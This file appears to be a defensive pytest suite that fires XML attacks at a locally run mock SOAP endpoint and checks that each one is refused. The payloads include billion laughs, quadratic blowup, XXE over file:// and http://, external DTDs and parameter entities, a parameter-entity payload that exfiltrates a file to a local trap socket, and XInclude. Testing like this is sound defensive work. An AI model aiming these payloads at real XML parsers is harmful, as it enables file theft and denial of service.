"""XML attacks on the real SOAP endpoint of a running mock (auth on, the token sent).

Each attack must be answered within 1 s with a SOAP 1.1 ``soap:Client`` Fault (413 for an oversized body),
echo nothing it carried (marker strings, file contents), store no decision, open no outbound connection (a
local listening socket stands in for an attacker's server) and leave the server's memory bounded.
"""

from __future__ import annotations

import secrets
import select
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import defusedxml.ElementTree as SafeElementTree
import pytest
import requests

from utest.security.live_mock import (
    SCORING_NS,
    SOAP_ENV_NS,
    SOAP_PATH,
    LiveMock,
    MockStarter,
    make_request,
    new_token,
    soap_envelope,
    soap_headers,
)

ANSWER_LIMIT_SECONDS = 1.0
RSS_GROWTH_LIMIT_KIB = 50 * 1024
RSS_ROUNDS = 5
MAX_BODY_BYTES = 64 * 1024
NO_CONNECTION_WAIT_SECONDS = 0.1
MARKER = f"SGECHO{secrets.token_hex(8)}"
FILE_MARKER = f"SGFILE{secrets.token_hex(8)}"


@dataclass(frozen=True)
class Attack:
    """One hostile request body and what the endpoint must answer."""

    name: str
    body: bytes
    error_code: str
    status: int = 500
    content_type: str = "text/xml; charset=utf-8"


@dataclass(frozen=True)
class Trap:
    """Where an attack would lead the parser: a local file with a marker and a listening socket."""

    secret_file: Path
    listener: socket.socket

    @property
    def http_url(self) -> str:
        host, port = self.listener.getsockname()
        return f"http://{host}:{port}"

    def connections_pending(self, wait: float = NO_CONNECTION_WAIT_SECONDS) -> bool:
        """True when someone connected to the listening socket (it would be readable)."""
        readable, _, _ = select.select([self.listener], [], [], wait)
        return bool(readable)


def _envelope(index: int, doctype: str = "", tx_value: str | None = None, extra_body: str = "") -> bytes:
    request = make_request(index, prefix="TX-XML")
    if tx_value is not None:
        request["transactionId"] = tx_value
    return soap_envelope(request, doctype=doctype, extra_body=extra_body).encode("utf-8")


def _billion_laughs() -> str:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE soapenv:Envelope [{''.join(lines)}]>"


def _deeply_nested(index: int) -> bytes:
    depth = 8000
    nested = "<a>" * depth + "</a>" * depth
    body = _envelope(index, extra_body=nested)
    assert len(body) < MAX_BODY_BYTES, f"nested envelope should stay under 64 KiB, is {len(body)} bytes"
    return body


def build_attacks(secret_file: Path, http_url: str) -> list[Attack]:
    """Every attack, aimed at a local file and an HTTP server."""
    quadratic_value = "A" * 40_000
    quadratic_refs = "&a;" * 6000
    big = _envelope(9, tx_value="TX-XML-00000009")
    padding = b"<!--" + b"p" * (MAX_BODY_BYTES + 1024 - len(big)) + b"-->"
    oversized = big.replace(b"<soapenv:Body>", b"<soapenv:Body>" + padding, 1)
    laughs_utf16 = (
        soap_envelope(make_request(11, prefix="TX-XML"), doctype=_billion_laughs())
        .replace('encoding="utf-8"', 'encoding="utf-16"')
        .replace("TX-XML-00000011", "&lol9;")
        .encode("utf-16")
    )
    return [
        Attack("billion laughs", _envelope(1, _billion_laughs(), tx_value="&lol9;"), "XML_DTD_FORBIDDEN"),
        Attack("billion laughs in UTF-16", laughs_utf16, "XML_DTD_FORBIDDEN"),
        Attack(
            "quadratic blowup",
            _envelope(2, f'<!DOCTYPE soapenv:Envelope [<!ENTITY a "{quadratic_value}">]>', tx_value=quadratic_refs),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "internal DTD with an entity",
            _envelope(3, f'<!DOCTYPE soapenv:Envelope [<!ENTITY m "{MARKER}">]>', tx_value="&m;"),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "internal DTD declaring elements only",
            _envelope(4, "<!DOCTYPE soapenv:Envelope [<!ELEMENT soapenv:Envelope ANY>]>"),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "XXE over file://",
            _envelope(5, f'<!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM "file://{secret_file}">]>', tx_value="&x;"),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "XXE over http://",
            _envelope(6, f'<!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM "{http_url}/xxe">]>', tx_value="&x;"),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "external DTD",
            _envelope(7, f'<!DOCTYPE soapenv:Envelope SYSTEM "{http_url}/evil.dtd">'),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "external parameter entity",
            _envelope(8, f'<!DOCTYPE soapenv:Envelope [<!ENTITY % p SYSTEM "{http_url}/p.dtd"> %p;]>'),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "parameter entity exfiltration of a file",
            _envelope(
                10,
                f'<!DOCTYPE soapenv:Envelope [<!ENTITY % f SYSTEM "file://{secret_file}">'
                f"<!ENTITY % w \"<!ENTITY &#x25; s SYSTEM '{http_url}/?%f;'>\"> %w; %s;]>",
            ),
            "XML_DTD_FORBIDDEN",
        ),
        Attack(
            "XInclude of a file",
            _envelope(
                12,
                extra_body=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret_file}"'
                ' parse="text"/>',
            ),
            "VALIDATION_FAILED",
        ),
        Attack("undefined entity without a DTD", _envelope(13, tx_value="&undefined;"), "MALFORMED_XML"),
        Attack("deeply nested elements", _deeply_nested(14), "MALFORMED_XML|VALIDATION_FAILED"),
        Attack("oversized envelope", oversized, "PAYLOAD_TOO_LARGE", status=413),
    ]


@pytest.fixture(scope="module")
def xml_mock(start_mock: MockStarter) -> LiveMock:
    return start_mock(token=new_token("xml"))


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    secret_file = tmp_path_factory.mktemp("xxe") / "secret.txt"
    secret_file.write_text(f"{FILE_MARKER}\n", encoding="utf-8")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    yield Trap(secret_file, listener)
    listener.close()


@pytest.fixture(scope="module")
def attacks(trap: Trap) -> dict[str, Attack]:
    return {attack.name: attack for attack in build_attacks(trap.secret_file, trap.http_url)}


@pytest.fixture(scope="module")
def send(xml_mock: LiveMock) -> Callable[[bytes], tuple[requests.Response, float]]:
    session = xml_mock.session()

    def post(body: bytes) -> tuple[requests.Response, float]:
        started = time.perf_counter()
        response = session.post(xml_mock.url + SOAP_PATH, data=body, headers=soap_headers(xml_mock.token), timeout=10)
        return response, time.perf_counter() - started

    return post


def fault_of(response: requests.Response) -> dict[str, str]:
    """faultcode, faultstring and errorCode of a SOAP 1.1 Fault response (AssertionError when it is none)."""
    root = SafeElementTree.fromstring(response.content)
    fault = root.find(f"{{{SOAP_ENV_NS}}}Body/{{{SOAP_ENV_NS}}}Fault")
    assert fault is not None, f"expected a SOAP Fault, got {response.status_code}: {response.text[:300]}"
    return {
        "faultcode": fault.findtext("faultcode", ""),
        "faultstring": fault.findtext("faultstring", ""),
        "errorCode": fault.findtext(f"detail/{{{SCORING_NS}}}FaultInfo/{{{SCORING_NS}}}errorCode", ""),
    }


def test_control_envelope_without_attack_is_scored(send: Callable, xml_mock: LiveMock) -> None:
    """The same envelope without a DOCTYPE is scored: the faults below come from the attacks, not the envelope."""
    response, _ = send(_envelope(900))
    assert response.status_code == 200, f"expected 200 for a clean envelope, got {response.status_code}"
    assert b"ScoreApplicantResponse" in response.content


ATTACK_NAMES = [attack.name for attack in build_attacks(Path("/nonexistent"), "http://127.0.0.1:9")]


@pytest.mark.parametrize("name", ATTACK_NAMES)
def test_attack_is_refused_fast_with_a_client_fault(
    name: str, attacks: dict[str, Attack], send: Callable, trap: Trap, xml_mock: LiveMock
) -> None:
    attack = attacks[name]
    response, seconds = send(attack.body)
    assert seconds < ANSWER_LIMIT_SECONDS, f"{name}: expected an answer within 1 s, took {seconds:.2f} s"
    assert response.status_code == attack.status, f"{name}: expected HTTP {attack.status}, got {response.status_code}"
    assert response.headers.get("Content-Type") == attack.content_type, f"{name}: {response.headers}"
    fault = fault_of(response)
    assert fault["faultcode"] == "soap:Client", f"{name}: expected soap:Client, got {fault}"
    assert fault["errorCode"] in attack.error_code.split("|"), f"{name}: expected {attack.error_code}, got {fault}"
    text = response.content.decode("utf-8", errors="replace")
    for leaked in (MARKER, FILE_MARKER, "lollollol", "AAAAAAAAAA", "Traceback", str(trap.secret_file)):
        assert leaked not in text, f"{name}: the response echoes {leaked!r}: {text[:400]}"
    assert not trap.connections_pending(), f"{name}: the server opened a connection to {trap.http_url}"
    stored = xml_mock.query("SELECT COUNT(*) FROM decisions WHERE transaction_id LIKE 'TX-XML-%'")[0][0]
    assert stored <= 1, f"{name}: expected only the control decision stored, found {stored}"


def test_memory_stays_bounded_under_repeated_attacks(
    attacks: dict[str, Attack], send: Callable, xml_mock: LiveMock
) -> None:
    """Every attack RSS_ROUNDS times: the server's resident memory grows by less than 50 MB."""
    send(_envelope(901))
    before = xml_mock.rss_kib()
    for _ in range(RSS_ROUNDS):
        for attack in attacks.values():
            response, _ = send(attack.body)
            assert response.status_code == attack.status, f"{attack.name}: got {response.status_code}"
    after = xml_mock.rss_kib()
    assert after - before < RSS_GROWTH_LIMIT_KIB, (
        f"expected RSS growth < {RSS_GROWTH_LIMIT_KIB} KiB after {RSS_ROUNDS} rounds, got {before} -> {after} KiB"
    )


def test_trap_detects_a_connection(trap: Trap) -> None:
    """The no-connection check is able to fail: a real connection to the trap is seen."""
    host, port = trap.listener.getsockname()
    with socket.create_connection((host, port), timeout=2):
        assert trap.connections_pending(1.0), "a connection to the trap socket was not detected"
    accepted, _ = trap.listener.accept()
    accepted.close()
    assert not trap.connections_pending(0.05)
